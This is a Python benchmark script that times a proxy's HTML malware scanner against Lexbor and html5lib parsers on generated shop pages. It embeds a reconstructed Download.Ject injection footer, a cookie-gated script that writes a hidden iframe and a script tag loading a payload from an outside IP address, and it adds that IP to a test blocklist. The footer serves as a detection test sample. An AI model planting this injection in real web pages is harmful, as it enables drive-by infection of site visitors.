"""Benchmark the HTML scanner against full parses by Lexbor (selectolax) and html5lib.

Run: .venv/bin/python benchmarks/bench_htmlscan.py [--quick] [--clock wall]

Pages are generated (deterministic): a ~100 KB page with ~40 scripts and a
~2 MB page, each clean and with a Download.Ject-style footer appended after
</html>. Prints clean-page scan throughput, the time to strip the injected
variant, and the baselines with ratios. No assertions: figures only.

The reference parsers are timed in a child process that imports nothing else,
with glibc's malloc told to keep freed memory (GLIBC_TUNABLES: mmap and trim
thresholds of 64 and 256 MB): Lexbor allocates and frees its whole tree on every
parse, and when glibc hands that memory back and faults it in again each time
the same parse is 2-2.5x slower. Whether it does depends on what the process did
before (its dynamic thresholds): without the tunables the child's 2 MB parse took
18-23 ms, with them 8.5-9.7 ms, and its 100 KB parse 0.4 or 0.9-1.3 ms depending
on the modules imported. The reference gets its best time, so the ratios are the
conservative ones; the scanner runs with the default malloc, as in the proxy.

Times are the process's CPU time by default (``time.process_time``): on a shared
machine, time spent waiting for a CPU is not the scanner's. ``--clock wall`` takes
wall time instead. Either way the best round counts: interference only adds time.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import ada_url  # noqa: E402
import html5lib  # noqa: E402
from selectolax.lexbor import LexborHTMLParser  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent

# Modelled on the published descriptions of the 2004 footer: cookie-gated,
# skipped on https, writes a script and a hidden 1x1 iframe to the same URL.
DOWNLOAD_JECT_FOOTER = b"""
<script language="JavaScript">
function sc088(n24,v8){var date=new Date();var s10=date.getTime();
date.setTime(s10+600000);document.cookie=n24+"="+escape(v8)+"; expires="+date.toGMTString();}
function gc099(n24){var s=document.cookie;var i=s.indexOf(n24+"=");return i<0?null:s;}
if(location.protocol!="https:"&&gc099("trk716")==null){sc088("trk716","1");
document.write("<scr"+"ipt src=http://217.107.218.147/dot.php></scr"+"ipt>");
document.write("<iframe src=http://217.107.218.147/dot.php width=1 height=1 style=display:none></iframe>");}
</script>
"""

_TEXT = (
    "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt "
    "ut labore et dolore magna aliqua enim ad minim veniam quis nostrud exercitation"
)
_WORDS = _TEXT.split(" ")


def make_page(size: int, scripts: int, seed: int = 1) -> bytes:
    """A plausible shop/news page: head with metas and scripts, nav, articles, footer."""
    rnd = random.Random(seed)
    head = [
        b'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">',
        b'<meta name="viewport" content="width=device-width, initial-scale=1">',
        b"<title>Example Shop &amp; News</title>",
        b'<link rel="stylesheet" href="/static/css/main.8f3a.css">',
        b'<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>',
        b"<style>body{margin:0;font:16px/1.4 sans-serif}.card>.t{color:#333}</style>",
        b'<script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXX"></script>',
        b"<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
        b"gtag('js',new Date());gtag('config','G-XXXX');</script>",
        b'</head><body class="home"><noscript><iframe src="https://www.googletagmanager.com/'
        b'ns.html?id=GTM-XXXX" height="0" width="0" style="display:none"></iframe></noscript>',
        b'<header><nav class="top"><ul>',
    ]
    for i in range(12):
        head.append(b'<li><a href="/c/%d" class="nav-link">Category %d</a></li>' % (i, i))
    head.append(b"</ul></nav></header><main>")
    tail = [b"</main><footer><p>&copy; 2024 Example</p>"]
    body: list[bytes] = []
    budget = size - sum(map(len, head)) - 4096
    per_script = max(1, budget // max(1, scripts))
    used = 0
    placed = 0
    i = 0
    while used < budget:
        i += 1
        words = " ".join(rnd.choice(_WORDS) for _ in range(rnd.randint(20, 60)))
        chunk = (
            b'<article class="card" data-id="%d"><h2 class="t"><a href="/p/%d?ref=home&amp;x=1">'
            b'Item %d</a></h2><img src="/img/%d.jpg" alt="item %d" width="320" height="200" '
            b'loading="lazy"><p>%s</p><span class="price">$%d.99</span>'
            b'<button type="button" onclick="cart.add(%d)">Add</button></article>\n'
            % (i, i, i, i, i, words.encode(), i % 100, i)
        )
        if i % 17 == 0:
            chunk += (
                b'<svg class="icon" viewBox="0 0 24 24" aria-hidden="true"><path d="M12 2L2 7l10 5'
                b' 10-5-10-5z"/></svg>'
            )
        if i % 29 == 0:
            chunk += b"<!-- promo slot %d -->" % i
        body.append(chunk)
        used += len(chunk)
        if placed < scripts and used >= per_script * (placed + 1):
            placed += 1
            if placed % 2:
                s = (
                    b'<script src="https://cdn.example.net/js/widget-%d.min.js" defer></script>\n'
                    % placed
                )
            else:
                s = (
                    b'<script type="application/ld+json">{"@context":"https://schema.org",'
                    b'"@type":"Product","name":"Item %d","url":"https:\\/\\/shop.example.com\\/p\\/%d",'
                    b'"offers":{"price":"%d.99"}}</script>\n' % (placed, placed, placed)
                    if placed % 4 == 0
                    else b"<script>(function(){var el=document.getElementById('w%d');"
                    b"if(el){el.addEventListener('click',function(){track('w%d');});}})();</script>\n"
                    % (placed, placed)
                )
            body.append(s)
            used += len(s)
    tail.append(b'<script src="/static/js/app.4c1d.js"></script></footer></body>\n</html>\n')
    return b"".join(head + body + tail)


@dataclass(frozen=True)
class _Match:
    list: str
    rule: str


def make_is_blocked(n_hosts: int = 50_000) -> Callable[[str], _Match | None]:
    """A blocklist lookup of realistic cost: parse the host, walk its suffixes in a set."""
    rnd = random.Random(7)
    hosts = {f"bad{rnd.randrange(10**9)}.example" for _ in range(n_hosts)}
    hosts.add("217.107.218.147")

    def is_blocked(url: str) -> _Match | None:
        try:
            host = ada_url.URL(url).hostname
        except ValueError:
            return None
        parts = host.split(".")
        for i in range(len(parts)):
            candidate = ".".join(parts[i:])
            if candidate in hosts:
                return _Match("bench", candidate)
        return None

    return is_blocked


# The clock every figure is read from (set by --clock): process CPU time or wall time.
CLOCKS: dict[str, Callable[[], float]] = {"cpu": time.process_time, "wall": time.perf_counter}
clock = CLOCKS["cpu"]


def timeit(fn: Callable[[], object], *, repeat: int, min_time: float = 0.1) -> float:
    """Best seconds per call over ``repeat`` rounds of >= min_time each.

    The minimum, not the median: the machine may be shared, and interference
    only ever adds time.
    """
    fn()
    best = float("inf")
    for _ in range(repeat):
        count = 0
        start = clock()
        while True:
            fn()
            count += 1
            elapsed = clock() - start
            if elapsed >= min_time:
                break
        best = min(best, elapsed / count)
    return best


def interleaved(fns: dict[str, Callable[[], object]], *, rounds: int) -> dict[str, float]:
    """Time several functions in alternating rounds so that load spikes hit them alike."""
    best = {name: float("inf") for name in fns}
    for _ in range(rounds):
        for name, fn in fns.items():
            best[name] = min(best[name], timeit(fn, repeat=1))
    return best


# glibc malloc settings for the reference child: keep freed memory (see the docstring).
REFERENCE_MALLOC = ("glibc.malloc.mmap_threshold=67108864", "glibc.malloc.trim_threshold=268435456")

PAGES = {
    "100 KB / 40 scripts": (100_000, 40, 1),
    "2 MB / 300 scripts": (2_000_000, 300, 2),
}


def reference_times(rounds: int, quick: bool) -> dict[str, dict[str, float]]:
    """Lexbor and html5lib parse times per page, measured in this (pristine) process."""
    out: dict[str, dict[str, float]] = {}
    for label, (size, scripts, seed) in PAGES.items():
        page = make_page(size, scripts, seed=seed)
        t = interleaved({"lexbor": lambda p=page: LexborHTMLParser(p)}, rounds=rounds)
        if quick and len(page) > 500_000:
            t["html5lib"] = float("nan")
        else:
            t["html5lib"] = timeit(lambda p=page: html5lib.parse(p), repeat=1, min_time=0.0)
        out[label] = t
    return out


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="fewer rounds, skip html5lib on 2 MB")
    parser.add_argument(
        "--clock", choices=sorted(CLOCKS), default="cpu", help="process CPU time or wall time"
    )
    parser.add_argument("--references-only", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    global clock
    clock = CLOCKS[args.clock]
    rounds = 3 if args.quick else 10
    if args.references_only:
        print(json.dumps(reference_times(rounds, args.quick)))
        return
    child = [sys.executable, __file__, "--references-only", "--clock", args.clock]
    child += ["--quick"] if args.quick else []
    tunables = [os.environ.get("GLIBC_TUNABLES", ""), *REFERENCE_MALLOC]
    env = {**os.environ, "GLIBC_TUNABLES": ":".join(t for t in tunables if t)}
    out = subprocess.run(child, check=True, capture_output=True, text=True, env=env).stdout
    refs = json.loads(out)
    # (Imported here, not at the top: the reference child must import nothing of ours. The
    # scanner's imports alone made its Lexbor parse of the 100 KB page 2x slower.)
    from proxy_addons.core.htmlscan import Scanner
    from proxy_addons.core.signatures import parse_signatures

    sigs = parse_signatures((ROOT / "blocklists" / "signatures.toml").read_text())
    is_blocked = make_is_blocked()
    warm = Scanner(is_blocked, sigs, after_html="strip")
    cold = Scanner(is_blocked, sigs, after_html="strip", cache_entries=0)
    url = "http://shop.example.com/"
    pages = {label: make_page(size, n, seed=seed) for label, (size, n, seed) in PAGES.items()}
    print(
        f"{'page':22s} {'size':>7s} | {'scan (warm)':>11s} {'MB/s':>6s} {'x Lexbor':>8s} |"
        f" {'scan (cold)':>11s} {'x Lexbor':>8s} | {'Lexbor':>8s} {'html5lib':>9s} |"
        f" {'strip injected':>14s}"
    )
    findings: list[dict[str, object]] = []
    here: list[float] = []
    for label, page in pages.items():
        injected = page + DOWNLOAD_JECT_FOOTER
        assert warm.scan(page, url, "text/html") == [], "the clean page must be clean"
        stripped, found = warm.strip(injected, url, "text/html")
        assert found and stripped != injected
        findings = [f.as_dict() for f in found]
        t = interleaved(
            {
                "warm": lambda p=page: warm.scan(p, url, "text/html"),
                "cold": lambda p=page: cold.scan(p, url, "text/html"),
                "lexbor here": lambda p=page: LexborHTMLParser(p),
                "strip": lambda p=injected: cold.strip(p, url, "text/html"),
            },
            rounds=rounds,
        )
        t["lexbor"] = refs[label]["lexbor"]
        t_h5 = refs[label]["html5lib"]
        here.append(t["lexbor here"] / t["lexbor"])
        print(
            f"{label:22s} {len(page) / 1e3:5.0f}KB |"
            f" {t['warm'] * 1e3:9.2f}ms {len(page) / t['warm'] / 1e6:6.0f}"
            f" {t['lexbor'] / t['warm']:7.1f}x |"
            f" {t['cold'] * 1e3:9.2f}ms {t['lexbor'] / t['cold']:7.1f}x |"
            f" {t['lexbor'] * 1e3:6.2f}ms {t_h5 * 1e3:7.0f}ms | {t['strip'] * 1e3:12.2f}ms"
        )
    print(
        "warm: repeated scans of the same page (the scanner's verdict caches are hot, as on a\n"
        "templated site); cold: cache_entries=0. x Lexbor = Lexbor full parse time / scan time.\n"
        "strip injected: cold scan + strip of the page with the Download.Ject footer appended.\n"
        f"Clock: {'process CPU time' if args.clock == 'cpu' else 'wall time'}, best round.\n"
        "Lexbor/html5lib: timed in a pristine child process, malloc keeping freed memory\n"
        "(Lexbor's time in this process: " + ", ".join(f"{r:.1f}x" for r in here) + " of that)."
    )
    print(f"findings on the injected page: {findings}")


if __name__ == "__main__":
    main()
